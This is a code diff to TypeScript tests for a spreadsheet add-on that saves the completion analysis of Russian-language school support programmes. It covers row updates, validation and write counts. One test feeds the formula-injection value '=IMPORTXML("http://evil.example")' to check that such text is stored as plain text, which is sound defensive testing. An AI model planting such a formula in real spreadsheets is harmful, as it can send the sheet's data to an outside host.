@@ -32,6 +32,13 @@ function page(addon: Addon, input: unknown = {}): Page {
 
 const row = (problem: string, extra: Partial<Row> = {}): Row => ({ id: null, problem, before: '', after: '', method: '', conclusions: '', ...extra });
 
+/** Saves as the page does: with the version the page showed when it opened (unless the test gives one). */
+function save<R = unknown>(addon: Addon, input: Record<string, unknown>): Result<R> {
+  const opened = input.version ? null : addon.call<Result<{ version: unknown }>>('getCompletionPage', { programmeId: input.programmeId });
+  const version = input.version ?? (opened?.status === 'success' ? opened.response.version : {});
+  return addon.call<Result<R>>('saveCompletion', { ...input, version });
+}
+
 const conclusion = (extra: Record<string, unknown> = {}) => ({
   programmeId: 'P00001',
   rows: [row('Дисциплина на уроке', { id: 'A00001', before: 'шум на уроках', after: 'рабочая тишина', method: 'анализ уроков', conclusions: 'проблема снята' })],
@@ -110,8 +117,8 @@ test('a programme without analysis rows is pre-filled with one row per problem',
 test('saving writes the analysis, the conclusion and the status «завершена»', () => {
   const addon = validSchool();
   const id = withFreshProgramme(addon);
-  const result = addon.call<Result<{ rowIds: string[]; statusLabel: string }>>(
-    'saveCompletion',
+  const result = save<{ rowIds: string[]; statusLabel: string }>(
+    addon,
     conclusion({
       programmeId: id,
       rows: [row('Оценивание', { before: 'не оценивает', after: 'использует листы самооценки', method: 'анализ уроков', conclusions: 'снята' }), row('Планирование урока'), row('Родители')],
@@ -158,21 +165,21 @@ test('saving writes the analysis, the conclusion and the status «заверше
 test('existing rows are updated in place, removed ones deleted, new ones appended', () => {
   const addon = validSchool();
   const first = conclusion({ rows: [row('Дисциплина на уроке', { id: 'A00001', after: 'тишина' }), row('Мотивация учащихся')] });
-  const saved = addon.call<Result<{ rowIds: string[] }>>('saveCompletion', first) as { response: { rowIds: string[] } };
+  const saved = save<{ rowIds: string[] }>(addon, first) as { response: { rowIds: string[] } };
   expect(saved.response.rowIds[0]).toBe('A00001');
   const added = saved.response.rowIds[1]!;
   expect(rows(addon, 'Анализ итогов').map((r) => [r.ID, r.Проблема, r['Состояние после завершения сопровождения']])).toEqual([
     ['A00001', 'Дисциплина на уроке', 'тишина'],
     [added, 'Мотивация учащихся', ''],
   ]);
-  addon.call('saveCompletion', conclusion({ rows: [row('Мотивация', { id: added })] }));
+  save(addon, conclusion({ rows: [row('Мотивация', { id: added })] }));
   expect(rows(addon, 'Анализ итогов').map((r) => [r.ID, r.Проблема])).toEqual([[added, 'Мотивация']]);
 });
 
 test('validation errors per field; nothing is written', () => {
   const addon = validSchool();
   const before = addon.snapshot();
-  const fields = (input: unknown) => (addon.call<Result>('saveCompletion', input) as { fields?: Record<string, string> }).fields;
+  const fields = (input: Record<string, unknown>) => (save(addon, input) as { fields?: Record<string, string> }).fields;
   expect(fields(conclusion({ rows: [], outcome: '', problemsResult: '', needs: [], conclusionDate: '' }))).toEqual({
     rows: 'Добавьте хотя бы одну проблему в анализ итогов',
     outcome: 'Выберите один вариант',
@@ -190,7 +197,7 @@ test('validation errors per field; nothing is written', () => {
   });
   expect(fields(conclusion({ outcome: 'ineffective' }))).toEqual({ reasons: expect.stringContaining('Укажите причины') });
   expect(fields(conclusion({ rows: [row('Чужая', { id: 'A00099' })] }))).toEqual({ 'rows.0.problem': 'Эта строка уже удалена из анализа итогов: обновите страницу' });
-  expect(addon.call('saveCompletion', conclusion({ programmeId: 'P00099' }))).toMatchObject({ status: 'error', type: 'not-found', message: expect.stringContaining('Программа P00099 не найдена') });
+  expect(save(addon, conclusion({ programmeId: 'P00099' }))).toMatchObject({ status: 'error', type: 'not-found', message: expect.stringContaining('Программа P00099 не найдена') });
   expect(addon.call('getCompletionPage', { programmeId: 'P00099' })).toMatchObject({ status: 'error', type: 'not-found' });
   expect(addon.snapshot()).toBe(before);
 });
@@ -198,12 +205,12 @@ test('validation errors per field; nothing is written', () => {
 test('a draft cannot be completed', () => {
   const addon = validSchool();
   addon.typeCell('Программы', 2, 'Статус', 'черновик');
-  expect(addon.call('saveCompletion', conclusion())).toMatchObject({ status: 'error', type: 'conflict', message: expect.stringContaining('черновик') });
+  expect(save(addon, conclusion())).toMatchObject({ status: 'error', type: 'conflict', message: expect.stringContaining('черновик') });
 });
 
 test('text that looks like a formula is stored as text', () => {
   const addon = validSchool();
-  const result = addon.call<Result>('saveCompletion', conclusion({ rows: [row('=IMPORTXML("http://evil.example")', { id: 'A00001', conclusions: '@все' })], furtherWays: '-наставничество' }));
+  const result = save(addon, conclusion({ rows: [row('=IMPORTXML("http://evil.example")', { id: 'A00001', conclusions: '@все' })], furtherWays: '-наставничество' }));
   expect(result.status).toBe('success');
   expect(rows(addon, 'Анализ итогов')[0]).toMatchObject({ Проблема: '=IMPORTXML("http://evil.example")', Выводы: '@все' });
   expect(rows(addon, 'Программы')[0]!['Наиболее эффективные пути (способы) дальнейшего сопровождения']).toBe('-наставничество');
@@ -212,8 +219,9 @@ test('text that looks like a formula is stored as text', () => {
 
 test('one read per tab and block writes', () => {
   const addon = validSchool();
+  const { version } = page(addon, { programmeId: 'P00001' }) as Page & { version: Record<string, string> };
   addon.emulator.calls.reset();
-  expect(addon.call<Result>('saveCompletion', conclusion({ rows: [row('Дисциплина', { id: 'A00001' }), row('Мотивация'), row('Оценивание')] })).status).toBe('success');
+  expect(save(addon, conclusion({ version, rows: [row('Дисциплина', { id: 'A00001' }), row('Мотивация'), row('Оценивание')] })).status).toBe('success');
   // Programmes and the analysis read once; the updated row, the two new ones, the programme: three writes.
   expect(addon.emulator.calls.get('Values.batchGet')).toBe(2);
   expect(addon.emulator.calls.get('Range.setValues')).toBe(3);
